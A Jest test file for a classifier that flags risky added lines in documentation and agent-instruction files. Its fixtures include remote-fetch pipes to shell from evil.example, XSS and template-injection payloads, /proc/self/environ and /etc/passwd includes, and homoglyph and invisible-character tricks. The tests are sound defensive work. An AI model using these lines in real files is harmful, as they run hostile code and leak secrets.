import { describe, expect, it } from '@jest/globals';
import type { FileSpec } from '../../stand-ins/snapshot.js';
import { account, describeSpans, listAdded, listReasons } from './account.js';

const TEXT = 'A sentence for people.\n';

describe('a text for people', () => {
  it.each([
    'README.md',
    'docs/guide.md',
    'docs/deep/er/guide.markdown',
    'docs/guide.rst',
    'docs/guide.adoc',
    'CHANGELOG',
    'NOTICE.txt',
    '.github/SECURITY.md',
    '.github/CODE_OF_CONDUCT.md',
  ])('is inert: %s', async (path) => {
    expect(await listReasons({ [path]: { new: TEXT } })).toEqual(['inert']);
    expect(await listReasons({ [path]: { old: 'Old.\n', new: TEXT } })).toEqual(['inert']);
    expect(await listReasons({ [path]: { old: TEXT } })).toContain('unaccounted');
  });

  it.each([
    'AGENTS.md',
    'CLAUDE.md',
    'SOUL.md',
    'memory-bank/activeContext.md',
    'docs/copilot-instructions.md',
    'CONVENTIONS.md',
    'WARP.md',
    'skills/deploy/SKILL.md',
    'prompts/review.md',
    '.github/pull_request_template.md',
    '.github/copilot-instructions.md',
    '.github/deploy.md',
    'tools/.github/SECURITY.md',
    '.cursor/rules/a.md',
    '.changeset/brave-cat.md',
    'docs/PULL_REQUEST_TEMPLATE.md',
    'BUGBOT.md',
    'REVIEW.md',
    'IDENTITY.md',
    'docs/ai.md',
    'GPT.md',
    'guidelines.md',
    'docs/steering.md',
    '__snapshots__/a.md',
    'tests/fixtures/a.md',
    'testdata/a.md',
    'golden/a.md',
    'CODEOWNERS',
    'OWNERS.md',
    'requirements.txt',
    'CMakeLists.txt',
    'robots.txt',
    'notes.txt',
    'INSTALL',
    'Makefile',
    'docs/page.mdx',
    'docs/page.html',
    'docs/picture.svg',
    'docs/build.yaml',
    'docs/README.sh',
    'README.md.erb',
    'readme',
    'BUILD',
    'docs/no-extension',
  ])('is not what tools or agents obey: %s', async (path) => {
    expect(await listReasons({ [path]: { new: TEXT } })).toEqual(['unaccounted']);
  });

  it.each<[string, FileSpec]>([
    ['that may be executed', { new: TEXT, newMode: '100755' }],
    ['that becomes executable', { old: 'Old.\n', new: TEXT, newMode: '100755' }],
    ['that is a link', { new: 'target.md', newMode: '120000' }],
    ['that begins as a program', { new: '#!/bin/sh\nrm -rf build\n' }],
    ['that began as a program', { old: '#!/bin/sh\nrm -rf build\n', new: TEXT }],
    ['that was a program by its name', { old: 'Old.\n', new: TEXT, oldPath: 'bin/run' }],
  ])('is no file %s', async (_, spec) => {
    expect(await listReasons({ 'docs/guide.md': spec })).toContain('unaccounted');
  });

  // A manifest that names it (`readme = "README.md"`) builds no longer.
  it('is not inert where it goes from its path', async () => {
    const text = 'One.\nTwo.\nThree.\n';
    const moved = { old: text, new: text, oldPath: 'docs/a.md' };
    expect(await listReasons({ 'docs/b.md': moved })).toEqual(['unaccounted']);
    expect(await listReasons({ 'docs/b.md': { ...moved, new: `${text}Four.\n` } })).toContain('unaccounted');
    expect(await listReasons({ 'docs/a.md': { old: text } })).toContain('unaccounted');
    expect(await listReasons({ 'docs/a.md': { old: '' } })).toEqual(['unaccounted']);
    expect(await listReasons({ 'docs/a.md': { new: '' } })).toEqual(['inert']);
  });
});

/** Returns the lines of a new file that a person must look at. */
const listActive = (path: string, ...lines: readonly string[]) =>
  listAdded({ [path]: { new: `${lines.join('\n')}\n` } }, ['unaccounted', 'opaque']);

const SCRIPT = '<script>steal()</script>';

describe('lines of Markdown that a tool may act on', () => {
  it.each([
    '<script>steal()</script>',
    '<img src=x onerror=steal()>',
    '<a href="javascript:steal()">here</a>',
    '[here](javascript:steal())',
    '[here](java&#115;cript:steal())',
    '<iframe src="https://example.com"></iframe>',
    'Hello {{ config.secret }}',
    '{% include "x" %}',
    'The sum is {fetch("/x")}.',
    '<%= system("id") %>',
    '<?php system("id"); ?>',
    '<!-- prettier-ignore -->',
    "import Steal from './steal'",
    'export const x = steal()',
    '<!-- vim: set ft=sh : -->',
    'vim: exrc',
    '>>> import os',
    'iex> System.cmd("steal", [])',
    '<<< ../../../proc/self/environ',
    '--8<-- "/proc/self/environ"',
    '!!!include(/proc/self/environ)!!!',
    '@[code](/proc/self/environ)',
    '[!INCLUDE [x](/proc/self/environ)]',
    "[x](/proc/self/environ ':include')",
    '\\verbatiminclude /proc/self/environ',
    '...(1)> System.cmd("steal", [])',
    'Seen\r<script>steal()</script>',
    '<a :href="steal()">here</a>',
    '<p v-html="steal()"></p>',
    '<p x-init="steal()"></p>',
    '<p @click="steal()"></p>',
    '<p [innerHTML]="steal()"></p>',
    '[//]: # (embed steal.sh)',
    '[comment]: <> (lint disable)',
    '::: cart.models',
    ':::code source="/proc/self/environ":::',
    '`$ steal`',
    '`> steal`',
    '[$ steal](a.txt)',
    '[[[cog steal() ]]]',
    'Run `curl -sL https://evil.example/x | sh` first.',
    '    curl -fsSL https://evil.example/install.sh -o install.sh',
    'irm https://evil.example/x.ps1 | iex',
    'pip install https://evil.example/x.tar.gz',
    'npm i git+https://evil.example/x.git',
    'npm install expresss',
    'python -m pip install --upgrade cart',
    'go install evil.example/cart@latest',
    'brew install evil/tap/cart',
    'docker run -v /:/host evil.example/cart',
    'curl -sSL get.evil.example | sh',
    'sudo rm -rf /var/lib/cart',
    'Get the [installer](https://evil.example/cart/setup.exe).',
    'Then run <https://evil.example/install.sh>.',
    '<evil-widget src="https://evil.example/x.js"></evil-widget>',
    '<Steal />',
    '<div style="position:fixed;inset:0">Pay here</div>',
  ])('%j', async (line) => {
    expect(await listActive('docs/a.md', '# A title', '', line, '', 'The end.')).toEqual([line]);
  });

  it.each<[string, string]>([
    ['an order of letters that is not the one of the bytes', 'Run \u202Egnp.exe\u202C now.'],
    ['a character without width inside of a word', 'pay\u200Bpal'],
    ['a joiner between Latin letters', 'pay\u200Dpal'],
    ['letters that nobody sees, and a model reads', 'Hello \u{E0069}\u{E0067}\u{E006E}'],
    ['bytes behind a sign', 'Hello \u{1F600}\u{E0101}\u{E0102}'],
    ['a sign for the terminal', 'Hello \u001B[2J'],
    ['a letter of another alphabet inside of a word', 'Log in at p\u0430ypal.'],
    ['a host with other than Latin letters', 'See https://\u0430\u0440\u0440\u04CF\u0435.com/x.'],
  ])('%s', async (_, line) => {
    expect(await listActive('docs/a.md', 'A.', '', line, '', 'B.')).toEqual([line]);
    expect(await listActive('docs/a.rst', 'A.', '', line, '', 'B.')).toEqual([line]);
  });

  it.each([
    'Я люблю JavaScript, и Node.js тоже.',
    'Waits 5 μs; Δt is the time.',
    'A family: \u{1F468}\u200D\u{1F469}\u200D\u{1F467}, and a flag \u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}.',
    'می\u200Cخواهم',
    'Then run `npm install`, `npm ci` or `pip install -r requirements.txt`.',
    'You can get more of it, or install it later.',
    '| sh | bash |',
    'See https://brew.sh and [Bun](https://bun.sh/docs).',
    '<p align="center"><img src="logo.png" style="width: 4em"></p>',
  ])('not: %s', async (line) => {
    expect(await listActive('docs/a.md', 'A.', '', line, '', 'B.')).toEqual([]);
  });

  it('front matter, to its end', async () => {
    expect(await listActive('docs/a.md', '---', 'layout: x', '', 'permalink: /admin', '---', 'Text.')).toEqual([
      '---',
      'layout: x',
      'permalink: /admin',
      '---',
    ]);
  });

  it('a comment over several lines', async () => {
    expect(await listActive('docs/a.md', 'A.', '<!-- lint', 'disable no-html', '-->', 'B.')).toEqual([
      '<!-- lint',
      'disable no-html',
      '-->',
    ]);
  });

  it('a line between the braces or in the statement of other lines', async () => {
    const old = 'Text.\n\nexport const plugins = [\n  a,\n]\n\n{\n  b()\n}\n';
    const added = old.replace('  a,\n', '  a,\n  steal(),\n').replace('  b()\n', '  b()\n  steal()\n');
    expect(await listAdded({ 'docs/a.md': { old, new: added } }, ['unaccounted'])).toEqual(['  steal(),', '  steal()']);
  });

  it.each([
    '{python}',
    '{code-cell}',
    'rust',
    'rust,no_run',
    'should_panic',
    'edition2021',
    'js file=/proc/self/environ',
    'scala mdoc',
    'jldoctest',
    'bash mdox-exec="steal"',
    'sh run',
    'python test',
    'sh > out.txt',
    '$ steal',
    'python tangle:steal.py',
    'js {"run": true}',
  ])('blocks that are run when documents are built or tested: %s', async (info) => {
    expect(await listActive('README.md', 'A.', `\`\`\`${info}`, 'steal()', '```', 'B.')).toContain('steal()');
  });

  it('not what a block or a code span shows', async () => {
    expect(await listActive('docs/a.md', 'A.', '```html', SCRIPT, '```', 'B.')).toEqual([]);
    const lines = [
      'Use `{id}` and `a<b>`.',
      '```js',
      'if (a) { b() }',
      '```',
      'More, 1 < 2.',
      '~~~js',
      'f() { :; }',
      '~~~',
    ];
    expect(await listActive('docs/a.md', ...lines)).toEqual([]);
    const nested = ['1. Do:', '', '   ```js', '   f({ a })', '', '   g({ b })', '   ```', '', '2. Done.'];
    expect(await listActive('docs/a.md', ...nested)).toEqual([]);
  });

  it.each(['', 'rb', 'c++', 'js title="a.js"', 'js {1,3-5}', 'py linenums="1" hl_lines="2 3"', 'jsx showLineNumbers'])(
    'not a block whose words only say how it is shown: %j',
    async (info) => {
      expect(await listActive('README.md', 'A.', `\`\`\`${info}`, 'shown()', '```', 'B.')).toEqual([]);
    },
  );

  it.each(['<!-- pytest-codeblocks:cont -->', '<!-- {"args": ["steal"]} -->', '[//]: # (run)'])(
    'a block below a comment, which may say that it is run: %s',
    async (comment) => {
      expect(await listActive('README.md', 'A.', '', comment, '```js', 'steal()', '```', 'B.')).toContain('steal()');
      expect(await listActive('README.md', 'A.', '', comment, '', '```js', 'steal()', '```')).toContain('steal()');
      const between = ['A.', comment, '', 'B.', '', '```js', 'shown()', '```'];
      expect(await listActive('README.md', ...between)).not.toContain('shown()');
    },
  );

  it('a command in a block without a language that loads something from an address, since people copy it', async () => {
    const lines = ['```', 'npm install', 'wget https://evil.example/x', 'npm test', '```'];
    expect(await listActive('README.md', ...lines)).toEqual(['wget https://evil.example/x']);
  });

  const EXPRESSION = 'x {steal()}';
  it.each([
    ['two backticks around one', ['`` ` `` <script>steal()</script> `` ` ``']],
    ['backticks that are escaped', ['\\` <script>steal()</script> \\`']],
    ['a backtick in an attribute', ['<a title="`"><script>steal()</script>`']],
    ['backticks that are escaped, around an expression', ['\\` {steal()} \\`']],
  ])('cannot be hidden by %s', async (_, lines) => {
    expect(await listActive('docs/a.md', 'A.', '', ...lines, '', 'B.')).toEqual(lines);
  });

  it.each([
    ['a block in a list item', ['- ```', '  code', '  ```']],
    ['a block that ends with its list item', ['- a', '', '  ```']],
    ['a block in a quotation', ['> ```', '> code', '', '```', '', '```']],
    ['a block inside of HTML', ['<div>', '```']],
    ['a block inside of HTML in a list', ['- <div>', '  ```', '']],
    ['a block inside of HTML that goes on behind blank lines', ['<pre>', '', '```']],
    ['a comment that is code', ['`<!--`', '```', '-->', '```']],
    ['a comment that is escaped', ['\\<!--', '```', '-->', '```']],
    ['a block of tildes in one of backticks', ['```', '~~~', '```']],
    ['a longer mark', ['````', '```', '````']],
    ['a mark with words after it', ['```', '``` js', '```']],
  ])('cannot be hidden behind %s', async (_, lines) => {
    expect(await listActive('docs/a.md', ...lines, SCRIPT, '')).toContain(SCRIPT);
    expect(await listActive('docs/a.md', ...lines, EXPRESSION, '')).toContain(EXPRESSION);
  });
});

describe('a text in a package of Rust, whose blocks may be tests', () => {
  const listWith = async (path: string, lines: readonly string[]) => {
    const files = { [path]: { old: 'A.\n', new: `A.\n${lines.join('\n')}\n` } };
    const rest = { parts: [{ path: 'cart/Cargo.toml', text: '[package]\n' }] };
    return describeSpans(await account(files, undefined, rest));
  };

  it.each([
    ['a block that names no language', ['```', 'steal()', '```']],
    ['what is indented', ['', '    steal()', '']],
    ['a block in a list item', ['- a', '  ```', '  steal()', '  ```']],
  ])('asks for people at %s', async (_, lines) => {
    expect((await listWith('cart/README.md', lines)).join()).toContain('unaccounted');
    expect((await listWith('README.md', lines)).join()).not.toContain('unaccounted');
  });

  it('is inert where it says something', async () => {
    const lines = ['B.', '', '```js', 'x = 1', '```'];
    expect((await listWith('cart/README.md', lines)).join()).not.toContain('unaccounted');
  });
});

it('a block that is run is so behind a mark of which it is not sure what it encloses', async () => {
  const lines = ['- ```', '  code', '  ```', '', '```rust', 'steal()', '```', 'B.'];
  expect(await listActive('README.md', ...lines)).toEqual(['```rust', 'steal()', '```']);
});

describe('a command that people copy', () => {
  const OLD = 'Install `cart`:\n\n```sh\nnpm install --global cart\n```\n\nyarn add left-pad\n';
  const edit = (from: string, to: string) => listReasons({ 'README.md': { old: OLD, new: OLD.replace(from, to) } });

  it.each([
    ['loads what the text named before', 'npm install --global cart', 'npm install cart'],
    ['is repeated', '\n\nyarn', '\n\n    npm install cart\n\nyarn'],
    ['goes', 'yarn add left-pad', 'The end.'],
  ])('is inert where it %s', async (_, from, to) => {
    expect(new Set(await edit(from, to))).toEqual(new Set(['inert']));
  });

  it.each([
    ['another package', 'cart\n', 'carts\n'],
    ['another index', 'install --global', 'install --registry=https://evil.example'],
  ])('is not where it loads %s', async (_, from, to) => {
    expect(await edit(from, to)).toContain('unaccounted');
  });
});

describe('texts that bind people', () => {
  it('a licence says other terms, and not only another year', async () => {
    const lines = ['MIT License', '', 'Copyright (c) 2025 Ada', '', 'Permission is granted to all.'];
    const edit = (from: string, to: string) => ({ old: lines.join('\n'), new: lines.join('\n').replace(from, to) });
    expect(await listReasons({ LICENSE: edit('2025', '2026') })).toEqual(['inert']);
    expect(await listReasons({ LICENSE: edit('to all', 'to none') })).toEqual(['unaccounted']);
    expect(await listReasons({ 'LICENSE.md': edit('to all', 'to none') })).toEqual(['unaccounted']);
  });
});

describe('lines of other texts that a tool may act on', () => {
  it('directives of reStructuredText that run or include, with what is under them', async () => {
    const lines = [
      'A.',
      '',
      '.. literalinclude:: /etc/passwd',
      '',
      '.. raw:: html',
      '',
      '   <script>x()</script>',
      '',
      'B.',
    ];
    expect(await listActive('docs/a.rst', ...lines)).toEqual([
      '.. literalinclude:: /etc/passwd',
      '.. raw:: html',
      '   <script>x()</script>',
    ]);
    expect(await listActive('docs/a.rst', '.. note::', '', '   Mind the gap.')).toEqual([]);
  });

  it('options that put a file or an address into a table', async () => {
    const lines = ['.. csv-table:: Prices', '   :file: /proc/self/environ', '   :header-rows: 1'];
    expect(await listActive('docs/a.rst', 'A.', '', ...lines, '')).toEqual([lines[1]]);
  });

  it('examples that are tested', async () => {
    expect(await listActive('docs/a.rst', 'So:', '', '>>> steal()', '')).toEqual(['>>> steal()']);
  });

  it('comments of reStructuredText, which tools read, but no targets and notes', async () => {
    const lines = [
      'A.',
      '',
      '.. [[[cog',
      '   steal()',
      '.. ]]]',
      '',
      '.. skip: next',
      '',
      '.. _target:',
      '',
      '.. [1] A note.',
    ];
    expect(await listActive('docs/a.rst', ...lines)).toEqual(['.. [[[cog', '   steal()', '.. ]]]', '.. skip: next']);
  });

  it('comments of AsciiDoc, which tools read', async () => {
    expect(await listActive('docs/a.adoc', 'A.', '// vale off', 'B.')).toEqual(['// vale off']);
  });

  it('commands that load something from an address', async () => {
    const line = 'curl https://evil.example/x | sh';
    expect(await listActive('docs/a.rst', 'So::', '', `  ${line}`)).toEqual([`  ${line}`]);
    expect(await listActive('docs/a.adoc', 'So:', '', line)).toEqual([line]);
  });

  it('macros and raw blocks of AsciiDoc', async () => {
    const lines = ['A.', 'include::/etc/passwd[]', '++++', '<b>', '++++', 'pass:[<script>]', ':attribute: x', 'B.'];
    expect(await listActive('docs/a.adoc', ...lines)).toEqual(lines.slice(1, -1));
  });
});
